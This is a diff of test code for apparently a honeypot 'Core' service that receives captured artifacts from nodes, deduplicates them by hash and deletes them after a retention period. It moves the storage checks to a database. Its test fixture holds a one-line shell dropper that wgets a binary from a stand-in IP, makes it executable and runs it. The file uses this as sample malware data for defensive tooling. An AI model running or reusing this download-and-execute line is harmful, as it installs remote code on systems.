@@ -6,9 +6,11 @@
  */
 import { expect, test } from "bun:test";
 import { createHash } from "node:crypto";
-import { existsSync, readdirSync, utimesSync, writeFileSync } from "node:fs";
+import { readdirSync, utimesSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { getJson, registerNode, startTestCore, tempDir } from "../helpers";
+import { keptDatabase } from "../helpers/kept-db";
+import { storedBytes } from "./stored-bytes";
 
 const sha = (b: Uint8Array) => createHash("sha256").update(b).digest("hex");
 const BYTES = Buffer.from("#!/bin/sh\ncd /tmp; wget http://203.0.113.5/x86; chmod +x x86; ./x86\n");
@@ -23,7 +25,8 @@ const offer = (sighting_id: string, extra: Record<string, unknown> = {}) => ({
 
 test("offers, chunks at Core's offset, deduplication by hash, refusals with a code", async () => {
   using dir = tempDir();
-  await using core = await startTestCore({ db: join(dir.path, "core.db"), artifact_max_bytes: 4096 });
+  await using kept = await keptDatabase(dir.path);
+  await using core = await startTestCore({ ...kept.config, artifact_max_bytes: 4096 });
   using node = await registerNode(core);
   const hash = sha(BYTES);
 
@@ -42,7 +45,7 @@ test("offers, chunks at Core's offset, deduplication by hash, refusals with a co
   expect(await node.nextKind("FileStatus")).toEqual({ sha256: hash, offset: 10, complete: false });
   node.send("FileChunk", { sha256: hash, offset: 10, data: BYTES.subarray(10).toString("base64") });
   expect(await node.nextKind("FileStatus")).toEqual({ sha256: hash, offset: BYTES.length, complete: true });
-  expect(existsSync(join(dir.path, "artifacts", hash))).toBe(true);
+  expect(await storedBytes({ pgUrl: kept.pgUrl, dir: dir.path }, hash)).toEqual(BYTES);
 
   // Core has it: another sighting is recorded and nothing is sent again.
   node.send("FileOffer", offer("s2", { meta: { source: "cowrie.session.file_download", session: "ffffffffffff", url: "http://203.0.113.6/x.sh" } }));
@@ -71,10 +74,11 @@ test("offers, chunks at Core's offset, deduplication by hash, refusals with a co
 
 test("retention deletes artifacts not seen within retention_days, rows and bytes, and abandoned partial transfers", async () => {
   using dir = tempDir();
-  const db = join(dir.path, "core.db");
+  await using kept = await keptDatabase(dir.path);
+  const db = kept.config;
   const hash = sha(BYTES);
   {
-    await using core = await startTestCore({ db });
+    await using core = await startTestCore(db);
     using node = await registerNode(core);
     const old = new Date(Date.now() - 3 * 24 * 3600 * 1000).toISOString();
     node.send("FileOffer", offer("old", { meta: { source: "cowrie.session.file_download", seen_at: old } }));
@@ -84,7 +88,7 @@ test("retention deletes artifacts not seen within retention_days, rows and bytes
     expect((await getJson(`${core.api}/api/v1/artifacts`)).body.artifacts.map((x: any) => x.last_seen)).toEqual([new Date(old).toISOString()]);
   }
   {
-    await using core = await startTestCore({ db, retention_days: 7 });
+    await using core = await startTestCore({ ...db, retention_days: 7 });
     expect((await getJson(`${core.api}/api/v1/artifacts/${hash}`)).status).toBe(200);
   }
   // A transfer abandoned three days ago, and one under way.
@@ -95,9 +99,9 @@ test("retention deletes artifacts not seen within retention_days, rows and bytes
   writeFileSync(recent, "half");
   const threeDaysAgo = new Date(Date.now() - 3 * 24 * 3600 * 1000);
   utimesSync(abandoned, threeDaysAgo, threeDaysAgo);
-  await using core = await startTestCore({ db, retention_days: 2 });
+  await using core = await startTestCore({ ...db, retention_days: 2 });
   expect(readdirSync(partial)).toEqual([`${"b".repeat(64)}-1`]);
   expect((await getJson(`${core.api}/api/v1/artifacts/${hash}`)).status).toBe(404);
   expect((await getJson(`${core.api}/api/v1/artifacts`)).body).toEqual({ artifacts: [], next_cursor: null });
-  expect(existsSync(join(dir.path, "artifacts", hash))).toBe(false);
+  expect(await storedBytes({ pgUrl: kept.pgUrl, dir: dir.path }, hash)).toBeNull();
 });
